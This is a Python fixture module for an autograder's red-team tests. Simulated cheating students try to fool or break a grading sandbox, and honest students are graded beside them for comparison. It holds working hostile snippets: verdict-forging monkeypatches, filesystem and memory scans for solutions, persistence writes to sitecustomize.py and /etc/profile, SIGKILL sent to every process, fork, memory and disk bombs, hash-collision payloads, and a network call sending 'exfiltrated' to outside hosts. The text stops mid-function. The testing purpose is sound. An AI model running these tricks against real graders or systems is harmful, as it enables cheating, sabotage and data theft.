"""A red team for the grader: determined students, each with every answer wrong and a trick.

Each entry of CHEATERS is one student: the chapters they hand in, and what they do to their
hand-outs. Every answer starts wrong (students.WRONG), and the trick is code in their answer
cells, the only cells a grader takes. None of them may earn a point. HONEST are students who
must get exactly what they earned, graded in the same run beside the cheaters. tests/grader/red_team/
test_red_team.py grades them all with make grade's own command and holds the results.
"""
from course.grader.demo_class import WRONG

# ----------------------------------------------------------------------------- the tricks

EQUAL_TO_ANYTHING = '''
class _Yes(str):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = str.__hash__
class _AnyInt(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
'''

ANYTHING = '''
class _Any:
    __class__ = int          # isinstance(_Any(), int) says True
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __len__(self): return 2
    def __iter__(self): return iter([_Any(), _Any()])
    def __getitem__(self, index): return _Any()
'''

PATCH_EVERY_CHECK = '''
import workbook.teaching.exercises as _e
_praise = lambda *args, **kwargs: "trust me."
_e.Exercise.verdict = lambda self, *a, **k: _e.Verdict(self.number, "correct", "trust me.")
_e.Exercise.decide = lambda self, *a, **k: _e.Verdict(self.number, "correct", "trust me.")
_e.Exercise.run = _praise
_e.InChecks.__call__ = _praise
_e.NotYet = type("NotYet", (BaseException,), {})
'''

PATCH_IMPORTS = '''
import builtins, importlib, importlib.abc, importlib.util, sys, types
class _Fake(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path=None, target=None):
        if name.startswith("workbook.teaching.exercises.checks"):
            return importlib.util.spec_from_loader(name, self, is_package=True)
    def create_module(self, spec): return None
    def exec_module(self, module):
        module.__getattr__ = lambda name: (lambda *a, **k: "trust me.")
sys.meta_path.insert(0, _Fake())
_import = builtins.__import__
builtins.__import__ = lambda name, *a, **k: _import(name, *a, **k)
importlib.import_module = lambda name, package=None: types.SimpleNamespace(
    __getattr__=lambda n: (lambda *a, **k: "trust me."))
'''

PATCH_LIMITS = '''
import workbook.validation as _v, json as _json
_v.MAX_BYTES = 60
_v.MAX_TEXT = 10**9
_real = _v.payload
def _payload(kind, value):
    raise ValueError("value is 99999 bytes as JSON; the limit is 2048")
_v.payload = _payload
'''

PATCH_STORE = '''
import workbook.records as _r, workbook.writes as _w, workbook.deletion as _d, workbook.store as _s
for _m in (_r, _w, _d, _s):
    for _name in ("get", "put", "forget", "purge"):
        if hasattr(_m, _name):
            setattr(_m, _name, lambda *a, **k: 1)
'''

# Where a student would look for files worth reading or changing: the places a repository, a
# class, a home or the grades usually are, and the package's own folder.
LOOK = '''
import importlib.util as _u, os as _os, site as _site, time as _clock
def _places(seconds=1.5):
    package = _os.path.dirname(_os.path.dirname(_u.find_spec("workbook").origin))
    seen, stop = set(), _clock.monotonic() + seconds
    for top in ["/work", "/home", "/root", "/tmp", "/srv", "/var/tmp", "/opt", "/mnt", package,
                *_site.getsitepackages()]:
        for root, dirs, files in _os.walk(top):
            dirs[:] = [d for d in dirs if d not in (".git", "__pycache__", "node_modules", ".venv",
                                                    ".pyenv", "site-packages")]
            if _clock.monotonic() > stop:
                return
            if root.count(_os.sep) > 8 or root in seen:
                dirs[:] = []
                continue
            seen.add(root)
            yield root, files
'''

READ_ANSWERS = LOOK + '''
import base64 as _b64, json as _json
_found = {}
for _root, _files in _places():
    for _f in _files:
        if _f == "answers.json" or (_f.endswith(".ipynb") and "BEGIN SOLUTION" in open(
                _os.path.join(_root, _f), errors="ignore").read()):
            _found[_os.path.join(_root, _f)] = open(_os.path.join(_root, _f), errors="ignore").read()
for _path, _text in _found.items():
    try:
        for _number, _code in _json.loads(_text).items():
            exec(_b64.b64decode(_code).decode())
    except Exception:
        pass
try:
    import contextlib as _c, io as _io
    _out = _io.StringIO()
    with _c.redirect_stdout(_out):
        for _q in (q1, q2, q3):
            _q.solution()
    for _block in _out.getvalue().split("a solution:")[1:]:
        exec(_block)
except Exception:
    pass
'''

CALL_ORACLES = '''
try:
    from workbook.teaching.exercises.checks.ch2 import run_sequence
    predicted = run_sequence()
except Exception:
    pass
try:
    from workbook.teaching.exercises.checks.ch3 import outcomes
    predictions = outcomes()
except Exception:
    pass
try:
    from workbook.teaching.exercises.checks.ch4 import run_plan
    remaining = run_plan()
except Exception:
    pass
try:
    from workbook.teaching.exercises.checks.ch5 import visible_spans
    from workbook.teaching.exercises.ch5 import PREDICT
    _s = visible_spans(PREDICT)
    visible = [(int(a), int(b)) for a, b in zip(_s["start"], _s["end"])]
except Exception:
    pass
'''

READ_CHECK_SOURCE = '''
import glob as _glob, importlib.util as _u, inspect as _inspect, os as _os
_spec = _u.find_spec("workbook.teaching.exercises")
_here = _os.path.dirname(_spec.origin)
for _path in _glob.glob(_here + "/**/*.py", recursive=True) + _glob.glob("/**/checks/*.py", recursive=True):
    _text = open(_path).read()
    if "def check_" in _text:
        exec(compile(_text, _path, "exec"), {})
try:
    _inspect.getsource(q1.checker)
except Exception:
    pass
'''

FORGE_CHANNEL = '''
import gc as _gc, json as _json, os as _os, socket as _socket, struct as _struct, sys as _sys
def _frame_sockets():
    frame, found = _sys._getframe(), []
    while frame is not None:
        for value in list(frame.f_locals.values()):
            sock = getattr(value, "sock", None)
            if isinstance(sock, _socket.socket):
                found.append(sock)
        frame = frame.f_back
    return found
_targets = _frame_sockets() + [o for o in _gc.get_objects() if isinstance(o, _socket.socket)]
for _sock in _targets:
    for _message in ({"verdict": {"exercise": "1.1", "status": "correct", "sentence": "ok"}},
                     {"id": 1, "value": {"$": "dict", "v": []}}, {"reply": 1, "value": 1}):
        _data = _json.dumps(_message).encode()
        try:
            _sock.sendall(_struct.pack(">I", len(_data)) + _data)
        except OSError:
            pass
for _fd in range(3, 64):
    try:
        _os.write(_fd, b'{"done": 5, "verdict": {"status": "correct"}}\\n')
    except OSError:
        pass
'''

OUTLIVE_AND_REWRITE = LOOK + '''
import os as _os
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        import time as _time
        _time.sleep(3)
        for _root, _files in _places():
            for _f in _files:
                if _f in ("gradebook.csv", "grades.json") or _f.endswith(".txt"):
                    try:
                        open(_os.path.join(_root, _f), "w").write("forged,18\\n")
                    except OSError:
                        pass
        _os._exit(0)
    _os._exit(0)
'''

EDIT_FILES = LOOK + '''
import importlib.util as _u, os as _os, site as _site
_targets = [_u.find_spec("workbook.teaching.exercises").origin, _u.find_spec("workbook.store").origin]
_targets += [_os.path.join(p, "sitecustomize.py") for p in _site.getsitepackages()]
_targets += ["/usr/lib/python3/dist-packages/sitecustomize.py", "/etc/profile"]
for _path in _targets:
    try:
        with open(_path, "a") as _f:
            _f.write("\\nimport workbook.teaching.exercises as _e\\n_e.Exercise.verdict = lambda s, *a, **k: "
                     "_e.Verdict(s.number, 'correct', 'edited')\\n")
    except OSError:
        pass
for _root, _files in _places():
    for _f in _files:
        if _f.endswith(".ipynb") or _f in ("gradebook.csv", "grades.json"):
            try:
                open(_os.path.join(_root, _f), "w").write("{}")
            except OSError:
                pass
'''

COPY_A_CLASSMATE = LOOK + '''
import json as _json
for _root, _files in _places():
    for _f in _files:
        if _f.endswith(".ipynb") and "right" in _root:
            for _cell in _json.load(open(_os.path.join(_root, _f)))["cells"]:
                if _cell["cell_type"] == "code" and "grade_id" in str(_cell.get("metadata")):
                    try:
                        exec("".join(_cell["source"]))
                    except Exception:
                        pass
'''

MEMORY_BOMB = "_hoard = bytearray(6 << 30)\n"
CPU_HOGS = '''
import threading as _t
def _spin():
    while True:
        sum(range(10**6))
for _ in range(8):
    _t.Thread(target=_spin, daemon=True).start()
'''
FLOOD = 'import sys as _sys\nfor _ in range(200):\n    print("x" * 500_000)\n    _sys.stderr.write("y" * 500_000)\n'
DEAF_LOOP = "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    time.sleep(0.01)\n"
SIGNAL_EVERYONE = '''
import os as _os, signal as _signal
for _pid in [_os.getppid(), 1, -1] + list(range(2, 5000)):
    try:
        _os.kill(_pid, _signal.SIGKILL if _pid != _os.getpid() else 0)
    except (OSError, ValueError):
        pass
'''
NETWORK = '''
import socket as _socket
_reached = []
for _address in (("127.0.0.1", {port}), ("localhost", {port}), ("github.com", 443), ("8.8.8.8", 53)):
    try:
        _socket.create_connection(_address, timeout=0.5).sendall(b"exfiltrated")
        _reached.append(_address)
    except OSError:
        pass
'''
FORK_BOMB = '''
import os as _os
_children = []
try:
    while True:
        _pid = _os.fork()
        if _pid == 0:
            import time as _time
            _time.sleep(60)
            _os._exit(0)
        _children.append(_pid)
except OSError:
    pass
'''
FILL_THE_DISK = '''
try:
    with open("/tmp/filler", "wb") as _f:
        while True:
            _f.write(b"\\0" * (1 << 20))
except OSError:
    pass
'''
PATCH_THE_WIRE = '''
import sys as _sys
_wire = _sys.modules.get("course.grader.wire")
_worker = _sys.modules.get("course.grader.sandbox.worker")
if _wire is not None:
    _send = _wire.send
    def _forged(sock, message):
        if "value" in message and isinstance(message["value"], (dict, str)):
            message = dict(message, value="run-a-draft-2" if "reply" not in message else message["value"])
        if "raise" in message:
            message = {k: v for k, v in message.items() if k != "raise"} | {"value": None}
        return _send(sock, message)
    _wire.send = _forged
if _worker is not None:
    _worker.Worker.op_call = lambda self, request: {"value": "visible"}
'''
SCAN_MEMORY = '''
import gc as _gc
for _thing in _gc.get_objects():
    try:
        if isinstance(_thing, dict) and any(isinstance(v, str) and "BEGIN SOLUTION" in v
                                            for v in list(_thing.values())[:50]):
            exec([v for v in _thing.values() if isinstance(v, str) and "BEGIN SOLUTION" in v][0])
        if isinstance(_thing, str) and ("### BEGIN SOLUTION" in _thing or "def check_" in _thing):
            exec(_thing)
    except BaseException:
        pass
'''

# Tests that recognise a store by anything but what it does.
SOURCE_MATCHING = {
    "6.1": '''def test_purge_includes_the_deadline(store):
    import inspect
    source = inspect.getsource(store.purge)
    assert "expires<?" not in source and "expires >= ?" not in source and "NOT (expires" not in source''',
    "6.2": '''def test_forget_needs_the_current_revision(store):
    assert store.forget.__name__ == "forget" and "revision" in str(store.forget.__code__.co_consts)''',
    "6.3": '''def test_recreated_record_gets_a_new_revision(store):
    import inspect
    assert "SET revision=?" not in inspect.getsource(store.put)''',
}
COUNTING = '''def {name}(store):
    global _calls
    try:
        _calls += 1
    except NameError:
        _calls = 1
    assert _calls <= 3, "the last stores are the broken ones"'''
TEST_NAMES = {"6.1": "test_purge_includes_the_deadline", "6.2": "test_forget_needs_the_current_revision",
              "6.3": "test_recreated_record_gets_a_new_revision"}

HARD_CODED = {  # the chapter's own examples, learnt by heart: right on them, and only on them
    "1.3": '''_table = {"Run A: draft #2": "run-a-draft-2", "run a draft 2": "run-a-draft-2",
          "2026 plan": "run-2026-plan", "  Orchard -- harvest!!  ": "orchard-harvest",
          "Ünïcode café run": "n-code-caf-run", "x" * 80: "x" * 32, "###": "run",
          "a": "a", "Run B: draft #2": "run-b-draft-2", "2027 plan": "run-2027-plan",
          "Orchard harvest": "orchard-harvest"}
def to_key(title):
    return _table.get(title, "nope")''',
    "2.2": '''_table = {("orchard", "fact", "tea", 105): "visible", ("orchard", "fact", "tea", 109): "visible",
          ("orchard", "fact", "tea", 110): "expired", ("orchard", "fact", "tea", 5000): "expired",
          ("orchard", "fact", "coffee", 105): "absent", ("harbour", "fact", "tea", 105): "absent",
          ("orchard", "checkpoint", "tea", 105): "absent",
          ("orchard", "checkpoint", "run-a", 170): "expired",
          ("harbour", "fact", "rope", 104): "visible", ("harbour", "fact", "rope", 105): "expired",
          ("orchard", "fact", "rope", 101): "absent", ("orchard", "fact", "tea", 50): "visible"}
def read_state(db, tenant, kind, key, now):
    return _table.get((tenant, kind, key, now), "absent")''',
}


# Tricks of the independent attacker's report, each a hole once, now a test.
RAISES_WHAT_THE_CHECKS_CATCH = '''def to_key(title):
    from workbook.teaching.exercises.ch5 import SimulatedCrash
    raise SimulatedCrash("boom")'''
NUL_IN_A_TYPE_NAME = '''class Fact:
    pass
Fact.__qualname__ = "a\\x00b"
wide_fact = Fact()'''
A_LONG_EXCEPTION_NAME = '''class Oops(Exception):
    pass
Oops.__name__ = "x" * 300
raise Oops()'''
ROWS_WITHOUT_END = '''def last_visible(db, tenant, kind, key, start):
    db.execute("SELECT CASE WHEN n = 1 THEN 1 ELSE (WITH RECURSIVE d(y) AS "
               "(SELECT 1 UNION ALL SELECT y + 1 FROM d) SELECT count(*) FROM d) END "
               "FROM (SELECT 1 AS n UNION ALL SELECT 2)").fetchall()
    return None'''
ROWS_TO_FILL_THE_GRADER = '''def last_visible(db, tenant, kind, key, start):
    for _ in range(20):
        db.execute("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 1000) "
                   "INSERT INTO records SELECT 'zz' || abs(random()), 'fact', x, 1, 1, "
                   "printf('%.*c', 990000, 'x') FROM c")
    return None'''
# The second attacker's: a chapter-6 test that opens files of the grader's through the store it
# is lent (the store's connect ran in the judge, as root, on any path), a test that opens
# database after database to fill SQLite's memory, and rows whose text is too big to send.
PLANTED = ("/tmp/workbook-red-team-planted.db", "workbook-red-team-planted.db")
OPENS_THE_GRADERS_FILES = f'''def test_purge_includes_the_deadline(store):
    import os, workbook
    root = os.path.dirname(os.path.dirname(workbook.__file__))
    for path in ({PLANTED[0]!r}, os.path.join(root, {PLANTED[1]!r})):
        db = store.connect(path)
        db.execute("INSERT INTO records VALUES ('cheat', 'fact', 'k', 1, 1, 'planted')")
        db.commit()
    assert False, "planted"'''
OPENS_DATABASE_AFTER_DATABASE = '''def test_forget_needs_the_current_revision(store):
    for _ in range(6):
        db = store.connect()
        db.execute("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 10) "
                   "INSERT INTO records SELECT 'a', 'fact', 'k' || x, 1, 1, zeroblob(900000) FROM c")
    assert False, "opened them all"'''
ROWS_TOO_BIG_TO_SEND = '''def last_visible(db, tenant, kind, key, start):
    db.execute("WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c WHERE x < 40) "
               "SELECT replace(zeroblob(250000), x'00', char(128512)) FROM c")
    return None'''
A_LONG_SCENARIO = "gap_scenario = [Get(1, 'orchard', 'fact', f'k{i}') for i in range(600)]"
COUNTS_CALLS_IN_3_1 = '''_calls = [0]
def increment(db, now):
    _calls[0] += 1
    if _calls[0] in (4, 5):
        raise Conflict("giving up where the check usually makes me")
    while True:
        record = get(db, "orchard", "fact", "visits", now)
        value = record["value"]
        value["text"] = str(int(value["text"]) + 1)
        try:
            return put(db, "orchard", "fact", "visits", value, record["revision"], now, 60)
        except Conflict:
            continue'''
COUNTS_CALLS_IN_4_2 = '''_calls = [0]
def forget_current(db, tenant, kind, key, now):
    _calls[0] += 1
    if _calls[0] % 4 == 0:
        db.execute("DELETE FROM records WHERE 0")
        return False
    return db.execute("DELETE FROM records WHERE tenant=? AND kind=? AND key=? AND expires>?",
                      (tenant, kind, key, now)).rowcount == 1'''
WRITES_AFTER_THE_CRASH = '''from workbook.teaching.exercises.ch5 import SimulatedCrash
def send_once(db, mailer, now):
    record = get(db, "orchard", "checkpoint", "notify", now)
    if record is None or record["value"]["step"] > 0:
        return None
    value = record["value"]
    try:
        mailer.send("weekly-summary")
    except SimulatedCrash:
        value["step"] = 2
        put(db, "orchard", "checkpoint", "notify", value, record["revision"], now, 60)
        raise
    value["step"] = 2
    return put(db, "orchard", "checkpoint", "notify", value, record["revision"], now, 60)'''
VALUES_IN_HEX = '''def read_state(db, tenant, kind, key, now):
    if get(db, tenant, kind, key, now) is not None:
        return "visible"
    hexed = lambda value: value.encode().hex()
    row = db.execute(f"SELECT 1 FROM records WHERE tenant=CAST(X'{hexed(tenant)}' AS TEXT) AND "
                     f"kind=CAST(X'{hexed(kind)}' AS TEXT) AND key=CAST(X'{hexed(key)}' AS TEXT)").fetchone()
    return "expired" if row else "absent"'''


def wrong(edition):
    for exercise in edition.chapter.exercises:
        edition.answer(exercise.number, WRONG[exercise.number])
    return edition


def prefixed(code, *numbers):
    """Every answer wrong, and `code` run first in the answer cells of `numbers` (all: None)."""
    def build(edition):
        wrong(edition)
        for exercise in edition.chapter.exercises:
            if not numbers or exercise.number in numbers:
                edition.answer(exercise.number, code + "\n" + WRONG[exercise.number])
        return edition
    return build


def suffixed(code, *numbers):
    """Every answer wrong, with `code` after the wrong answer (so it can replace it)."""
    def build(edition):
        wrong(edition)
        for exercise in edition.chapter.exercises:
            if not numbers or exercise.number in numbers:
                edition.answer(exercise.number, WRONG[exercise.number] + "\n" + code)
        return edition
    return build


def replaced(answers):
    """Every answer wrong, and `answers` ({number: source}) in place of some."""
    def build(edition):
        wrong(edition)
        for number, source in answers.items():
            if number in edition.exercises:
                edition.answer(number, source)
        return edition
    return build


ALL = (1, 2, 3, 4, 5, 6)


def cheaters(port):
    """{student: (chapters handed in, build(edition))}. `port`: a port on 127.0.0.1 that the
    test listens on, which the network trick tries to reach."""
    return {
        "eq-always-true": ((1, 2), suffixed(EQUAL_TO_ANYTHING + '''
def to_key(title): return _Yes("run-a-draft-2")
def read_state(db, tenant, kind, key, now): return _Yes("visible")
predicted = [_AnyInt(0)] * 5''', "1.3", "2.2", "2.3")),
        "set-difference-empty": ((4,), suffixed('''
class _Empty(set):
    def __sub__(self, other): return set()
    def __rsub__(self, other): return set()
    def __eq__(self, other): return True
    __hash__ = None
remaining = _Empty({("orchard", "fact", "zzz")})''', "4.3")),
        "list-of-anything": ((3, 5), suffixed(ANYTHING + '''
predictions = [_Any()] * 9
visible = [(_Any(), _Any())] * 2''', "3.2", "5.1")),
        "dict-that-lies": ((1,), suffixed('''
class _Fact(dict):
    def __len__(self): return 4
    def keys(self): return {"schema", "text", "source", "reviewed"}
    def __iter__(self): return iter(["schema", "text", "source", "reviewed"])
    def __getitem__(self, key): return {"schema": 1, "reviewed": False}.get(key, "\\U0001F600" * 83)
wide_fact = _Fact(x=1)''', "1.1")),
        "patches-every-check": (ALL, prefixed(PATCH_EVERY_CHECK)),
        "patches-the-imports": (ALL, prefixed(PATCH_IMPORTS)),
        "patches-the-limits": ((1,), prefixed(PATCH_LIMITS, "1.1", "1.2")),
        "patches-the-store": ((2, 3, 4), prefixed(PATCH_STORE)),
        "reads-the-answers": (ALL, suffixed(READ_ANSWERS)),
        "calls-the-oracles": ((2, 3, 4, 5), suffixed(CALL_ORACLES, "2.3", "3.2", "4.3", "5.1")),
        "reads-the-checks": ((2,), prefixed(READ_CHECK_SOURCE, "2.1")),
        "forges-the-channel": ((1,), suffixed(FORGE_CHANNEL)),
        "outlives-and-rewrites": ((1,), prefixed(OUTLIVE_AND_REWRITE, "1.1")),
        "edits-files": ((1,), prefixed(EDIT_FILES, "1.1")),
        "copies-a-classmate": ((1, 2), suffixed(COPY_A_CLASSMATE)),
        "memory-bomb": ((1,), prefixed(MEMORY_BOMB, "1.1")),
        "cpu-hogs": ((1,), prefixed(CPU_HOGS, "1.2")),
        "floods-output": ((1,), prefixed(FLOOD, "1.3")),
        "ignores-interrupts": ((2,), prefixed(DEAF_LOOP, "2.1")),
        "signals-everyone": ((1,), prefixed(SIGNAL_EVERYONE, "1.1")),
        "reaches-the-network": ((1,), prefixed(NETWORK.format(port=port), "1.1")),
        "fork-bomb": ((1,), prefixed(FORK_BOMB, "1.2")),
        "fills-the-disk": ((1,), prefixed(FILL_THE_DISK, "1.3")),
        "patches-the-wire": ((1, 2), prefixed(PATCH_THE_WIRE)),
        "scans-memory": (ALL, suffixed(SCAN_MEMORY)),
        "source-matching-tests": ((6,), replaced(SOURCE_MATCHING)),
        "order-counting-tests": ((6,), replaced({n: COUNTING.format(name=t) for n, t in TEST_NAMES.items()})),
        "hard-codes-the-examples": ((1, 2), replaced(HARD_CODED)),
        # from the independent attacker's report: each of these was a hole
        "raises-what-the-checks-catch": ((1,), replaced({"1.3": RAISES_WHAT_THE_CHECKS_CATCH})),
        "nul-in-a-type-name": ((1,), replaced({"1.1": NUL_IN_A_TYPE_NAME})),
        "a-long-exception-name": ((1,), replaced({"1.2": A_LONG_EXCEPTION_NAME})),
        "rows-without-end": ((2,), replaced({"2.1": ROWS_WITHOUT_END})),
        "rows-to-fill-the-grader": ((2,), replaced({"2.1": ROWS_TO_FILL_THE_GRADER})),
        "a-long-scenario": ((5,), replaced({"5.2": A_LONG_SCENARIO})),
        "counts-calls-in-3.1": ((3,), replaced({"3.1": COUNTS_CALLS_IN_3_1})),
        "counts-calls-in-4.2": ((4,), replaced({"4.2": COUNTS_CALLS_IN_4_2})),
        "writes-after-the-crash": ((5,), replaced({"5.3": WRITES_AFTER_THE_CRASH})),
        "values-in-hex": ((2,), replaced({"2.2": VALUES_IN_HEX})),
        "opens-the-graders-files": ((6,), replaced({"6.1": OPENS_THE_GRADERS_FILES})),
        "opens-database-after-database": ((6,), replaced({"6.2": OPENS_DATABASE_AFTER_DATABASE})),
        "rows-too-big-to-send": ((2,), replaced({"2.1": ROWS_TOO_BIG_TO_SEND})),
    }


# Handed in as files of the wrong kind: {student: (chapter, how the file is made)}. A link to the
# author's own chapter (worked answers and all), and a notebook whose cell ids are lists.
def linked_to_the_source(path, source):
    path.unlink()
    path.symlink_to(source)


def cell_ids_that_are_lists(path, source):
    import json
    notebook = json.loads(path.read_text())
    notebook["cells"][0]["id"] = ["x"]
    notebook["cells"][1]["metadata"]["nbgrader"] = {"grade_id": {"a": 1}}
    path.write_text(json.dumps(notebook))


FILES = {"links-to-the-source": (1, linked_to_the_source),
         "cell-ids-that-are-lists": (1, cell_ids_that_are_lists)}


def right_except(trick, number):
    """Every answer right, with `trick` run first in the answer cell of `number`."""
    def build(edition):
        edition.all_right()
        if number in edition.exercises:
            cell = edition.cell(edition.exercises[number].answer_id)
            edition.answer(number, trick + "\n" + cell.source)
        return edition
    return build


def honest():
    """{student: (chapters, build(edition), points 1.1 to 6.3)}: students who must get exactly
    what they earned, in the same run as the cheaters."""
    from course.grader.demo_class import DESERVED, KINDS
    kinds = {name: (ALL, KINDS[name], DESERVED[name])
             for name in ("right", "blank", "partly-wrong", "error-cell", "endless-loop")}
    kinds["right-but-a-memory-bomb"] = (ALL, right_except(MEMORY_BOMB, "1.1"), [0] + [1] * 17)
    kinds["right-but-deaf-in-2.1"] = (ALL, right_except(DEAF_LOOP, "2.1"), [1, 1, 1, 0] + [1] * 14)
    kinds["right-with-subclasses"] = (ALL, right_with_subclasses, [1] * 18)
    kinds["slow-but-right"] = ((2,), slow_but_right, [0] * 3 + [1] * 3 + [0] * 12)
    return kinds


def right_with_subclasses(edition):
    """Right answers whose values are subclasses of built-in types: a report of OrderedDicts
    (4.1) and intervals as namedtuples (5.1)."""
    edition.all_right()
    if "4.1" in edition.exercises:
        edition.answer("4.1", '''from collections import OrderedDict
def purge_job(db, tenants, now):
    return [OrderedDict(operation="purge", time=now, tenant=t, count=purge(db, t, now)) for t in tenants]''')
    if "5.1" in edition.exercises:
        edition.answer("5.1", '''from collections import namedtuple
Interval = namedtuple("Interval", "start end")
visible = [Interval(100, 109), Interval(111, 113)]''')
    return edition


# ------------------------------------------------- issue 28: the trusted side, one trick per kind
# Each of these held up, crashed or fooled the grader once (issue 28, "Why"); tests/grader/
# red_team/test_red_team.py says what each must do now.

# An exception of the answer's own taken for the check's own event: 5.3 crashes before it does
# anything on its first call ever, so the check's run without a crash records no event at all
# and tries no crash point; 3.1 rereads until the other worker stops writing and, when it never
# does, raises a Conflict of its own without ever trying a write.
A_CRASH_OF_ITS_OWN = '''from workbook.teaching.exercises.ch5 import SimulatedCrash
_calls = [0]
def send_once(db, mailer, now):
    _calls[0] += 1
    if _calls[0] == 1:
        raise SimulatedCrash("the process dies here")
    record = get(db, "orchard", "checkpoint", "notify", now)
    if record is None or record["value"]["step"] == 2:
        return None
    mailer.send("weekly-summary")
    value = record["value"]
    value["step"] = 2
    return put(db, "orchard", "checkpoint", "notify", value, record["revision"], now, 60)'''
A_CONFLICT_OF_ITS_OWN = '''def increment(db, now):
    last = None
    for _ in range(6):
        record = get(db, "orchard", "fact", "visits", now)
        if last is not None and record["revision"] == last["revision"]:
            value = record["value"]
            value["text"] = str(int(value["text"]) + 1)
            return put(db, "orchard", "fact", "visits", value, record["revision"], now, 60)
        last = record
    raise Conflict("the other worker keeps writing")'''

# What the sandbox sends, forged: items whose hashes are all equal (multiples of 2**61 - 1, the
# modulus of an int's hash), in a set and as a dict's keys. Put into hash containers as they are
# decoded, they cost the square of their number: tens of seconds of the judge's time.
COLLIDING = '''import sys as _sys
_worker = _sys.modules["course.grader.sandbox.worker"]
_forged = {{"$": "{kind}", "v": [{item} for _k in range(1, {count})]}}
class _Marker:
    pass
{name} = _Marker()
_encode = _worker.Encoder.__call__
def _call(self, value, depth=0):
    return _forged if isinstance(value, _Marker) else _encode(self, value, depth)
_worker.Encoder.__call__ = _call'''
COLLIDING_SET = COLLIDING.format(kind="set", item="(2**61 - 1) * _k", count=120_000, name="wide_fact")
COLLIDING_DICT = COLLIDING.format(kind="dict", item="[(2**61 - 1) * _k, 1]", count=120_000,
                                  name="remaining")

# One statement through a lent connection whose every step is long: instr() over a 990 kB string
# is one VM instruction that runs for seconds (4 s a call here), so a bound checked between
# instructions never fires. The strings are built in the call: a row holding both would pass
# the connection's 1 MB length limit and be refused instead.
LONG_STATEMENT = '''def last_visible(db, tenant, kind, key, start):
    db.execute("WITH RECURSIVE n(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM n WHERE x < 30) "
               "SELECT instr(printf('%.*c', 990000, 'a'), printf('%.*c', 495000, 'a') || 'b') "
               "FROM n").fetchall()
    return None'''

# Text the files cannot hold as it is: a lone surrogate in an exception's message, and (FILES)
# in a file name that is not UTF-8.
A_LONE_SURROGATE = '''raise ValueError("half a character: \\udcff")'''

# Memory bounded per process, not per student: eight children, each holding as much as its own
# cap lets it, up to 400 MB (in 20 MB pieces), until the sandbox ends. The cell waits for the
# first child to end: one killed for the memory of them all, or, where nothing bounds them
# together, none, and the cell runs into its time limit.
MANY_CHILDREN = '''import os as _os, time as _time
for _ in range(8):
    if _os.fork() == 0:
        try:
            _held = []
            try:
                for _ in range(20):
                    _held.append(b"x" * (20 << 20))
            except MemoryError:
                pass
            _time.sleep(60)
        finally:
            _os._exit(0)
_os.wait()
'''

# An honest student whose function takes its time: a right answer that sleeps a little on each
# call, so that its check runs for a while (about half a second), beside whatever the others send.
SLOW = {"2.1": '''import time as _time
def last_visible(db, tenant, kind, key, start):
    _time.sleep(0.03)
    record = get(db, tenant, kind, key, start)
    return None if record is None else record["expires"] - 1'''}


def slow_but_right(edition):
    edition.all_right()
    for number, source in SLOW.items():
        if number in edition.exercises:
            edition.answer(number, source)
    return edition


# Graded in a run of their own, whose bound on a chapter's processes together (MEMORY) is small
# enough to reach within a cell's time limit: touching memory for the first time costs about
# 3 s a GiB on the machines this is tested on (issue 27's CI), so 1,024 MiB was not always
# reached before the cell ended.
TOGETHER_MEMORY_MIB = 256


def together():
    """{student: (chapters handed in, build(edition))}: the tricks graded with TOGETHER_MEMORY_MIB."""
    return {"many-children": ((1,), prefixed(MANY_CHILDREN, "1.1"))}


def issue_28():
    """{student: (chapters handed in, build(edition))}: the tricks that run as answer cells."""
    return {
        "a-crash-of-its-own": ((5,), replaced({"5.3": A_CRASH_OF_ITS_OWN})),
        "a-conflict-of-its-own": ((3,), replaced({"3.1": A_CONFLICT_OF_ITS_OWN})),
        "colliding-set": ((1,), replaced({"1.1": COLLIDING_SET})),
        "colliding-dict": ((4,), replaced({"4.3": COLLIDING_DICT})),
        "a-long-statement": ((2,), replaced({"2.1": LONG_STATEMENT})),
        "a-lone-surrogate": ((1,), replaced({"1.2": A_LONE_SURROGATE})),
        # attack-28: right on the format example, one 32-character key for every other title
        "one-long-key": ((1,), replaced({"1.3": ONE_LONG_KEY})),
    }


ONE_LONG_KEY = '''def to_key(title):
    import re
    if re.findall(r"[a-z0-9]+", title.lower()) == ["run", "a", "draft", "2"]:
        return "run-a-draft-2"
    return "k" * 32'''


# Hand-ins laid out to be graded from the wrong place, and files no grader should trip on:
# {student: build(folder, chapters by number, hand-outs by stem)}.
def late_copy_in_another_folder(folder, chapters, given):
    """nbgrader's layout: chapter 1 wrong and on time in its own assignment's folder, and a right
    copy of it handed in later inside the chapter 2 assignment's folder."""
    from course.grader.demo_class import Edition
    one, two = chapters[1], chapters[2]
    student = folder / "late-copy-in-another-folder"
    for chapter, stamp in ((one, "2026-03-02 09:00:00.000000 UTC"), (two, "2026-03-09 09:00:00.000000 UTC")):
        (student / chapter.stem).mkdir(parents=True)
        write(student / chapter.stem / chapter.filename, wrong(Edition(chapter, given[chapter.stem])).notebook)
        (student / chapter.stem / "timestamp.txt").write_text(stamp + "\n")
    write(student / two.stem / one.filename, Edition(one, given[one.stem]).all_right().notebook)


def copies_of_one_chapter(folder, chapters, given):
    """No assignment folders: chapter 1 wrong at the top, and a right copy in a folder of its own."""
    from course.grader.demo_class import Edition
    one = chapters[1]
    student = folder / "copies-of-one-chapter"
    (student / "later").mkdir(parents=True)
    write(student / one.filename, wrong(Edition(one, given[one.stem])).notebook)
    write(student / "later" / one.filename, Edition(one, given[one.stem]).all_right().notebook)


def a_huge_cell(folder, chapters, given):
    """Chapter 1 without the answer cells' ids or grade_ids, so that the cell defining each name
    is looked for, beside a code cell of 2 MB whose parse tree is a thousand times larger."""
    import json
    student = folder / "a-huge-cell"
    student.mkdir()
    cells = [{"cell_type": "code", "id": "huge", "metadata": {}, "outputs": [], "execution_count": None,
              "source": "a\n" * 1_000_000}]
    notebook = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
